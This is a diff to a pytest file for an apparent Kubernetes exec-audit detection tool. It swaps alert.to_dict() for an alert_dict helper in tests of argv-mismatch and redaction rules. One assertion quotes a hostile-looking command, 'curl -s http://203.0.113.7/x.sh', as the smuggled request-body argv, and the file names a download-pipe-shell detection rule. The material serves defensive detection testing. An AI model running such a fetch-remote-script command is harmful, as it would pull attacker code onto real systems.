@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from execguard.model import Event
+from execguard.report.alert_json import alert_dict
 from execguard.sources.reader import Reader
 from rules_builder import exec_event, hunt, rule_ids
 
@@ -154,10 +155,10 @@ def test_uri_wins_and_the_alert_says_so(shape: str, tmp_path: Path) -> None:
     assert got.target.container == "app" and got.stdin is None and got.tty is None
     [alert] = hunt([tmp_path / "audit.jsonl"])
     assert "k8s-exec-argv-mismatch" in rule_ids(alert)
-    reasons = alert.to_dict()["reasons"]
+    reasons = alert_dict(alert)["reasons"]
     assert any("request body argv differs from the URI" in r and "curl -s http://203.0.113.7/x.sh" in r for r in reasons), reasons
     # the URI's argv is what the alert reports and what content rules judge
-    assert alert.to_dict()["command"] == ["ls", "-la"] and "cmd-download-pipe-shell" not in rule_ids(alert)
+    assert alert_dict(alert)["command"] == ["ls", "-la"] and "cmd-download-pipe-shell" not in rule_ids(alert)
 
 
 def test_same_argv_in_body_and_uri_is_no_conflict(tmp_path: Path) -> None:
@@ -178,7 +179,7 @@ def test_body_secrets_are_redacted(tmp_path: Path) -> None:
     got = read_one(tmp_path, ev)
     assert got.command_body and "hunter2" not in " ".join(got.command_body)
     [alert] = hunt([tmp_path / "audit.jsonl"])
-    assert "k8s-exec-argv-mismatch" in rule_ids(alert) and "hunter2" not in json.dumps(alert.to_dict())
+    assert "k8s-exec-argv-mismatch" in rule_ids(alert) and "hunter2" not in json.dumps(alert_dict(alert))
 
 
 def test_bodies_of_other_kinds_are_not_options(tmp_path: Path) -> None:
